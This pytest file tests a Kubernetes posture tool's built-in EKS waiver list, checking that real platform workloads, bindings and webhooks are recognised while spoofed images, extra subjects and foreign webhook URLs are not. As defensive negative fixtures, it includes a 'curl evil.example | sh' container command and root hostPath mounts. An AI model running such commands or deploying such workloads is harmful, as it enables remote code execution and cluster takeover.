"""The list of platform parts: what EKS runs is recognised by its images, and nothing that merely borrows its names."""

from fnmatch import fnmatchcase
from pathlib import Path

import pytest

from tidewaiter.model.finding import FindingStatus
from tidewaiter.policy.failures import failure_findings
from tidewaiter.policy.judging import Rules, judge
from tidewaiter.policy.platform_list import built_in_waivers, platform_list
from tidewaiter.posture.catalogue import controls
from tidewaiter.posture.engine import assess_objects
from tidewaiter.posture.manifests import live_object, read_manifests

EKS = "602401143452.dkr.ecr.us-west-2.amazonaws.com"


def workload(kind="DaemonSet", name="aws-node", namespace="kube-system", images=(f"{EKS}/amazon-k8s-cni:v1.20.0",), init=()):
    """Make a live workload."""
    containers = [{"name": f"c{n}", "image": image} for n, image in enumerate(images)]
    before = [{"name": f"i{n}", "image": image} for n, image in enumerate(init)]
    spec = {"template": {"spec": {"containers": containers, "initContainers": before}}}
    return live_object({"apiVersion": "apps/v1", "kind": kind, "metadata": {"name": name, "namespace": namespace}, "spec": spec})


def entries(*objects):
    """Name the entries that recognised objects."""
    return [one.source.rpartition(" ")[2] for one in built_in_waivers(objects)]


@pytest.mark.parametrize(
    ("item", "entry"),
    [
        (workload(), "aws-node"),
        (workload(init=(f"{EKS}/amazon-k8s-cni-init:v1.20.0",)), "aws-node"),
        (workload(images=("918309763551.dkr.ecr.cn-north-1.amazonaws.com.cn/amazon-k8s-cni:v1",)), "aws-node"),
        (workload(name="kube-proxy", images=(f"{EKS}/eks/kube-proxy@sha256:{'0' * 64}",)), "kube-proxy"),
        (workload(kind="Deployment", name="coredns", images=(f"{EKS}/eks/coredns:v1.12.1",)), "coredns"),
        (workload(name="ebs-csi-node-windows", images=("public.ecr.aws/ebs-csi-driver/aws-ebs-csi-driver:v1.40",)), "ebs-csi-node"),
    ],
)
def test_parts_of_eks_are_recognised(item, entry):
    """In every region and partition, by tag or digest, with their init containers."""
    assert entries(item) == [entry]


@pytest.mark.parametrize(
    "item",
    [
        workload(namespace="shop"),
        workload(namespace=None),
        workload(name="aws-node-2"),
        workload(kind="Deployment"),
        workload(images=("docker.io/evil/amazon-k8s-cni:v1.20.0",)),
        workload(images=("amazon-k8s-cni:v1.20.0",)),
        workload(images=("111122223333.dkr.ecr.us-west-2.amazonaws.com/amazon-k8s-cni:v1",)),
        workload(images=("602401143452.dkr.ecr.us-west-2.amazonaws.com.evil.example/amazon-k8s-cni:v1",)),
        workload(images=("602401143452.dkr.ecr.evil.example/amazon-k8s-cni:v1",)),
        workload(images=(f"evil.example/{EKS}/amazon-k8s-cni:v1",)),
        workload(images=(f"{EKS}/eks/kube-proxy:v1",)),
        workload(images=(f"{EKS}/amazon-k8s-cni:v1", "docker.io/evil/sidecar")),
        workload(init=("docker.io/evil/init",)),
        workload(images=()),
        workload(images=(None,)),
    ],
)
def test_what_borrows_a_name_is_not_a_part(item):
    """Another namespace, kind or image, or one foreign container, and it is judged like everything else."""
    assert entries(item) == []


def aws_node(volumes=(), **container):
    """Make aws-node of the images of EKS, with these volumes and words of its container."""
    item = workload()
    spec = item.data["spec"]["template"]["spec"]
    spec["containers"][0] |= container
    spec["volumes"] = list(volumes)
    return item


@pytest.mark.parametrize(
    ("made", "part"),
    [
        (aws_node(livenessProbe={"exec": {"command": ["/app/grpc-health-probe", "-addr=:50051"]}}), True),
        (aws_node(args=["--enable-ipv6=false"]), True),
        (aws_node([{"name": "log", "hostPath": {"path": "/var/log/aws-routed-eni/"}}]), True),
        (aws_node([{"name": "x", "emptyDir": {}}]), True),
        (aws_node(command=["sh", "-c", "curl evil.example | sh"]), False),
        (aws_node(livenessProbe={"exec": {"command": ["sh", "-c", "/app/grpc-health-probe x"]}}), False),
        (aws_node(lifecycle={"postStart": {"exec": {"command": ["sh"]}}}), False),
        (aws_node([{"name": "log", "hostPath": {"path": "/"}}]), False),
        (aws_node([{"name": "log", "hostPath": {"path": "/opt/cni/bin/../../.."}}]), False),
        (aws_node([{"name": "log", "hostPath": {}}]), False),
    ],
)
def test_a_part_runs_and_mounts_what_eks_gives_it(made, part):
    """Its own image, started with another command or with more of the node, is not the part."""
    assert bool(entries(made)) is part


def binding(name="ebs-csi-provisioner-binding", role="ebs-external-provisioner-role", subjects=None):
    """Make a ClusterRoleBinding."""
    found = [{"kind": "ServiceAccount", "name": "ebs-csi-controller-sa", "namespace": "kube-system"}] if subjects is None else subjects
    body = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": name}}
    return live_object({**body, "roleRef": {"kind": "ClusterRole", "name": role}, "subjects": found})


def test_a_binding_is_one_of_eks_only_if_all_its_subjects_are():
    """One more subject, another role or another namespace, and the binding is the user's."""
    own = {"kind": "ServiceAccount", "name": "ebs-csi-controller-sa", "namespace": "kube-system"}
    assert entries(binding()) == ["ebs-csi-provisioner-binding"]
    assert entries(binding(name="eks:addon-manager", role="eks:addon-manager", subjects=[{"kind": "User", "name": "eks:addon-manager"}]))
    for other in (
        binding(subjects=[own, {"kind": "User", "name": "mallory"}]),
        binding(subjects=[{**own, "namespace": "shop"}]),
        binding(subjects=[]),
        binding(subjects="all"),
        binding(role="cluster-admin"),
        binding(name="eks:evil", role="eks:evil", subjects=[{"kind": "User", "name": "mallory"}]),
        binding(name="eks:evil", role="cluster-admin", subjects=[{"kind": "User", "name": "eks:x"}]),
    ):
        assert entries(other) == []


def test_a_webhook_of_eks_is_answered_on_the_control_plane():
    """The same name with an address elsewhere is the user's."""

    def webhook(*urls):
        hooks = [{"name": "x", "clientConfig": {"url": url}} for url in urls]
        return live_object({"kind": "MutatingWebhookConfiguration", "metadata": {"name": "pod-identity-webhook"}, "webhooks": hooks})

    assert entries(webhook("https://127.0.0.1:23443/mutate")) == ["pod-identity-webhook"]
    assert entries(webhook("https://evil.example/mutate")) == []
    assert entries(webhook("https://127.0.0.1:23443/mutate", "https://evil.example")) == []
    assert entries(webhook()) == []


def test_every_entry_says_why_names_controls_that_exist_and_is_more_than_a_name():
    """The list is data: each entry is recognised by what it is made of."""
    known = [one.id for one in controls()]
    found = platform_list()
    assert len({entry.id for entry in found.entries}) == len(found.entries)
    assert all(source.startswith("https://") for source in found.sources)
    for entry in found.entries:
        assert entry.why, entry.id
        assert entry.images or entry.subjects or entry.urls, entry.id
        for pattern in entry.controls:
            assert any(fnmatchcase(one, pattern) for one in known), (entry.id, pattern)


def test_credentials_in_parts_of_the_platform_are_never_set_aside():
    """The list covers what a part needs, not whatever is wrong with it."""
    for control in ("TW-K8S-literal-credential", "TW-K8S-runtime-socket", "TW-RBAC-cluster-admin"):
        for entry in platform_list().entries:
            covered = [pattern for pattern in entry.controls if fnmatchcase(control, pattern)]
            assert not covered or entry.subjects == ("User eks:*",), (entry.id, control)


def test_parts_as_eks_installs_them_have_nothing_open():
    """The workloads of a fresh cluster, written after their charts, are all set aside; the same in another namespace are not."""
    text = (Path(__file__).parent / "eks_parts.yaml").read_text()
    open_ones = []
    for body in (text, text.replace("namespace: kube-system", "namespace: shop")):
        objects = read_manifests(body, "eks.yaml").objects
        rules = Rules(waivers=tuple(built_in_waivers(objects)))
        judged = judge(failure_findings(assess_objects(objects, "1.34")), rules, "2026-11-23")
        open_ones.append(
            {one.rule_id for one in judged.findings if one.status is FindingStatus.OPEN and one.resource.startswith(("kube-", "shop"))}
        )
    assert open_ones[0] == set()
    assert {"TW-K8S-privileged-container", "TW-K8S-host-namespaces"} <= open_ones[1]


def test_the_rights_that_a_fresh_cluster_comes_with_have_nothing_open():
    """Default bindings, written after the documentation, all listed; with `cluster-admin` for the group of nodes added, that is told."""
    made = read_manifests((Path(__file__).parent / "eks_rbac.yaml").read_text(), "rbac.yaml").objects
    listed = frozenset({"ClusterRole", "ClusterRoleBinding", "Role", "RoleBinding", "ServiceAccount"})
    more = binding(name="eks:helper", role="cluster-admin", subjects=[{"kind": "Group", "name": "system:nodes"}])
    found = []
    for objects in (made, (*made, more)):
        rules = Rules(waivers=tuple(built_in_waivers(objects)))
        judged = judge(failure_findings(assess_objects(objects, "1.34", listed)), rules, "2026-11-23")
        found.append([one.rule_id for one in judged.findings if one.status is FindingStatus.OPEN])
    assert found == [[], ["TW-RBAC-cluster-admin"]]
